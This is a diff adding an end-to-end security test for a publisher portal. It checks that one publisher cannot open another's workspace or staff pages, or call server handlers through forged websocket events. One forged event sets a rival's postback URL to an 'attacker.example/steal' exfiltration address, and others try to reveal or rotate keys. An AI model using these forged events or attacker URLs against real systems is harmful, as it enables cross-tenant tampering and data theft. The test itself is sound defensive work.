@@ -1,0 +1,127 @@
+"""A publisher cannot reach another publisher's data: not through the pages, and not by
+sending the portal's events by hand over its websocket with another publisher's ids."""
+
+from __future__ import annotations
+
+import json
+import re
+import time
+
+import pytest
+from playwright.sync_api import expect
+from sqlmodel import Session, select
+
+from models import Offerwall, Postback
+from tests.e2e.steps import convert, sign_in, sign_up, staff_approve
+
+pytestmark = pytest.mark.e2e
+
+# Records the frames the page sends over the portal's websocket, and keeps the socket.
+SPY = """
+window.__frames = [];
+class SpySocket extends WebSocket {
+  constructor(...args) { super(...args); window.__socket = this; }
+  send(data) { window.__frames.push(String(data)); return super.send(data); }
+}
+window.WebSocket = SpySocket;
+"""
+
+
+def send_event(page, handler, payload: dict, path: str) -> None:
+    """Send one event as the page's own client would, naming any handler and arguments."""
+    event = {
+        "name": handler.get_full_name() if hasattr(handler, "get_full_name") else handler,
+        "payload": payload,
+        "router_data": {"pathname": path.split("?")[0], "asPath": path},
+    }
+    page.evaluate("f => window.__socket.send(f)", "42/_event," + json.dumps(["event", event]))
+
+
+def handler_name(state, name: str) -> str:
+    return f"{state.get_full_name()}.{name}"
+
+
+def form(**fields: str) -> dict:
+    return {"form": {"__reflex_form_data__": [[k, v] for k, v in fields.items()]}}
+
+
+def test_a_publisher_cannot_reach_another_publishers_data(portal, new_page, tmp_path):
+    from portal.state.postbacks import DeliveryState, PostbackState
+    from portal.state.staff import StaffState
+    from portal.state.workspace import WorkspaceState
+
+    mine, theirs, staff = new_page(), new_page(), new_page()
+    mine.add_init_script(SPY)
+    sign_up(mine, portal.url, "Curious Wall")
+    sign_up(theirs, portal.url, "Private Wall")
+    sign_up(new_page(), portal.url, "Waiting Wall")
+    sign_in(staff, portal.url, *portal.staff)
+    expect(staff.get_by_role("heading", name="Publishers")).to_be_visible()
+    staff_approve(staff, portal.url, "Curious Wall")
+    staff_approve(staff, portal.url, "Private Wall")
+    with Session(portal.engine()) as db:
+        walls = {w.name: w for w in db.exec(select(Offerwall)).all()}
+    private, waiting = walls["Private Wall"], walls["Waiting Wall"]
+    convert(portal, private.owid, "their-player", tmp_path)
+    time.sleep(0.5)  # the dispatcher settles the postback (no URL: it fails at once)
+    with Session(portal.engine()) as db:
+        their_postback = db.exec(select(Postback).where(Postback.offerwall_id == private.id)).one()
+
+    # Through the pages: the other publisher's workspace and the staff pages stay closed.
+    mine.goto(portal.url + f"/publisher?offerwall={private.id}")
+    expect(mine.get_by_text("Your account may not do this.")).to_be_visible()
+    expect(mine.get_by_text("Private Wall")).to_have_count(0)
+    mine.goto(portal.url + "/staff/publishers")
+    expect(mine).to_have_url(re.compile(r"/publisher/?$"))
+    expect(mine.get_by_text("Your account cannot open that page.")).to_be_visible()
+
+    # By hand, over the websocket: every handler refuses on the server.
+    mine.goto(portal.url + "/publisher/deliveries")
+    expect(mine.get_by_role("heading", name="Curious Wall")).to_be_visible()  # loaded
+    send_event(
+        mine,
+        handler_name(DeliveryState, "open"),
+        {"postback_id": their_postback.id},
+        "/publisher/deliveries",
+    )
+    expect(mine.get_by_text("No such postback.")).to_be_visible()
+    expect(mine.get_by_role("dialog")).to_have_count(0)
+    send_event(
+        mine,
+        handler_name(DeliveryState, "resend"),
+        {"postback_id": their_postback.id},
+        "/publisher/deliveries",
+    )
+    expect(mine.get_by_text("No such postback.")).to_have_count(2)
+    send_event(
+        mine,
+        handler_name(PostbackState, "save"),
+        form(postback_url="https://attacker.example/steal?tx={transaction_id}"),
+        f"/publisher/postback?offerwall={private.id}",
+    )
+    send_event(
+        mine,
+        handler_name(WorkspaceState, "reveal_key"),
+        form(password="publisher-pass-2026"),
+        f"/publisher?offerwall={private.id}",
+    )
+    send_event(
+        mine, handler_name(WorkspaceState, "rotate_key"), {}, f"/publisher?offerwall={private.id}"
+    )
+    send_event(
+        mine, handler_name(StaffState, "approve"), {"offerwall_id": waiting.id}, "/staff/publishers"
+    )
+    send_event(
+        mine, handler_name(StaffState, "suspend"), {"offerwall_id": private.id}, "/staff/publishers"
+    )
+    expect(mine.get_by_text("Your account may not do this.")).to_have_count(5)
+    expect(mine.get_by_test_id("api-key")).to_have_count(0)
+
+    with Session(portal.engine()) as db:
+        after = {w.name: w for w in db.exec(select(Offerwall)).all()}
+        postback = db.get(Postback, their_postback.id)
+    assert after["Private Wall"].postback_url is None
+    assert after["Private Wall"].api_key_digest == private.api_key_digest
+    assert after["Private Wall"].status == "approved"
+    assert after["Waiting Wall"].status == "pending"
+    assert (postback.status, postback.attempts) == (their_postback.status, their_postback.attempts)
